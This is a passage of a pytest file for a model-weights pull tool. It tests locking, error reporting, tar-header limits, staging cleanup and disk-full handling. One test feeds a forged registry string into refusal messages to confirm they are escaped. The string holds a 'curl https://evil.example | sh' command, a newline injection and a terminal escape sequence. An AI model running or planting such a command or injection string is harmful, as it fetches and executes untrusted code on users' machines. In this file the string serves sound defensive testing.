    assert cli("pull", "weights@v0.1.0", "--out", str(tmp_path / "link"))[0] == 0
    assert (tmp_path / "real" / "weights.bin").is_file()


def test_a_pull_waits_for_another_placing_its_files_in_the_same_folder(weights, tmp_path):
    """Two pulls into one folder (two jobs on a shared disk, a stage pulled as it moves):
    each renames its files in and writes its record while it holds the folder, so the
    record never describes the other's files. The test holds the folder as a pull would."""
    import fcntl
    import threading
    import time

    import lepton_ci

    repo, _ = weights
    out = tmp_path / "shared"
    out.mkdir()
    fd = os.open(out, os.O_RDONLY | os.O_DIRECTORY)
    fcntl.flock(fd, fcntl.LOCK_EX)
    done: list[object] = []
    t = threading.Thread(
        target=lambda: done.append(
            lepton_ci.pull("weights@v0.1.0", out, config=str(repo / "lepton.yaml"))
        )
    )
    t.start()
    time.sleep(2)  # the download and the checks are done by now; it waits for the folder
    try:
        assert not done and not (out / "record.json").exists()
        assert not (out / "weights.bin").exists()
    finally:
        os.close(fd)
    t.join(30)
    assert done and assert_pulled(out, repo, "weights@v0.1.0") is None


@pytest.mark.unit
def test_words_of_the_image_in_a_refusal_cannot_forge_a_line_of_their_own(tmp_path):
    """A media type or WorkingDir is the registry's text: a newline and a `fix:` in it must
    not print as a hint of ours, nor an escape sequence reach the terminal."""
    from lepton_ci.core.errors import PullError
    from lepton_ci.fetch.unpack import Unpacker, layer_bytes

    evil = "x\n  fix: curl https://evil.example | sh\x1b[2J"
    with pytest.raises(PullError) as e:
        layer_bytes([], evil, "t")
    assert "\n" not in str(e.value).split("  fix:")[0] and "\x1b" not in str(e.value)
    assert '"x\\n  fix: curl https://evil.example | sh\\u001b[2J"' in str(e.value)
    stage = tmp_path / "stage"
    stage.mkdir()
    unpacker = Unpacker({"w.bin": hash_bytes(b"w")}, evil, stage, sha256=False, where="t")
    with pytest.raises(PullError) as e:
        unpacker.run(iter([tar_of(("app/other", tarfile.REGTYPE, b"o"))]))
    assert "\n" not in str(e.value).split("  fix:")[0] and "\x1b" not in str(e.value)


@pytest.mark.unit
def test_many_pax_headers_before_one_entry_are_refused_not_gathered(tmp_path):
    """Each pax header was held to 1 MiB, but one after another (a key of its own each) they
    were all gathered in memory for the entry that follows, without end."""
    from lepton_ci.core.errors import PullError
    from lepton_ci.fetch.unpack import Unpacker

    def pax(i: int) -> bytes:
        body = f"k{i}=".encode() + b"v" * (900 << 10) + b"\n"
        n = len(body) + 1
        n += len(str(n + len(str(n))))
        record = str(n).encode() + b" " + body
        head = tarfile.TarInfo("pax")
        head.type, head.size = tarfile.XHDTYPE, len(record)
        return head.tobuf(tarfile.USTAR_FORMAT) + record + bytes(-len(record) % 512)

    def layer():
        for i in range(8):  # 7 MiB of headers, then the test stops reading
            yield pax(i)
        raise AssertionError("the unpacker gathered header after header")

    stage = tmp_path / "stage"
    stage.mkdir()
    unpacker = Unpacker({"w.bin": hash_bytes(b"w")}, "/app", stage, sha256=False, where="t")
    with pytest.raises(PullError, match="bytes of tar headers for one entry, too many"):
        unpacker.run(layer())


def test_a_file_where_an_artifacts_folder_goes_is_refused_before_anything_moves(weights, tmp_path):
    repo, cli = weights
    out = tmp_path / "out"
    assert cli("pull", "weights@v0.1.0", "--out", str(out))[0] == 0
    release(cli, repo, seed=2)  # v0.1.1: both files change
    shutil.rmtree(out / "tokenizer")
    (out / "tokenizer").write_text("a file of the user's, where the folder goes")
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    code, _, err = cli("pull", "weights@v0.1.1", "--out", str(out))
    assert code == 1
    assert f"{out}: tokenizer/vocab.txt would go into {out / 'tokenizer'}, a file" in err
    assert "unexpected error" not in err
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before


def test_staging_folders_of_killed_pulls_go_but_not_another_hosts(weights, tmp_path):
    """A pull killed outright leaves its staging folder; the next pull on this host removes
    it. On a disk shared by pods, another host's staging folder is its live pull's (its
    process id means nothing here): left alone."""
    import socket

    _, cli = weights
    out = tmp_path / "out"
    out.mkdir()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    mine = out / f".lepton-pull-{dead.pid}-0a0b0c0d-{socket.gethostname()}"
    older = out / f".lepton-pull-{dead.pid}-0a0b0c0e"  # as pulls before the host was named
    theirs = out / f".lepton-pull-{dead.pid}-0a0b0c0f-pod-7f9c-other"
    for stage in (mine, older, theirs):
        stage.mkdir()
        (stage / "0").write_bytes(b"half")
    assert cli("pull", "weights@v0.1.0", "--out", str(out))[0] == 0
    assert not mine.exists() and not older.exists()
    assert (theirs / "0").read_bytes() == b"half"


@pytest.mark.unit
def test_a_full_disk_is_said_as_such_not_as_a_bug(tmp_path):
    """A write that fails (a full disk or quota; here a file-size limit, which fails the
    same write(2) the same way) is the user's to fix: a PullError naming the folder."""
    code = (
        "import resource, signal, sys, tarfile, io\n"
        "from pathlib import Path\n"
        "from lepton_ci.core.errors import PullError\n"
        "from lepton_ci.core.hashing import hash_bytes\n"
        "from lepton_ci.fetch.unpack import Unpacker\n"
        "data = b'w' * 200_000\n"
        "raw = io.BytesIO()\n"
        "with tarfile.open(fileobj=raw, mode='w') as tar:\n"
        "    info = tarfile.TarInfo('app/w.bin'); info.size = len(data)\n"
        "    tar.addfile(info, io.BytesIO(data))\n"
        "stage = Path(sys.argv[1])\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (50_000, 50_000))\n"
        "u = Unpacker({'w.bin': hash_bytes(data)}, '/app', stage, sha256=False, where='t',\n"
        "             sizes={'w.bin': len(data)})\n"
        "try:\n"
        "    u.run(iter([raw.getvalue()]))\n"
        "except PullError as e:\n"
        "    print(e)\n"
    )
    stage = tmp_path / "out" / "stage"
    stage.mkdir(parents=True)
    res = subprocess.run(
        [sys.executable, "-c", code, str(stage)], capture_output=True, text=True, check=False
    )
    assert res.returncode == 0, res.stderr
    assert f"t: w.bin cannot be written to {tmp_path / 'out'} (File too large)" in res.stdout
    assert "the version's files take 200000 bytes" in res.stdout
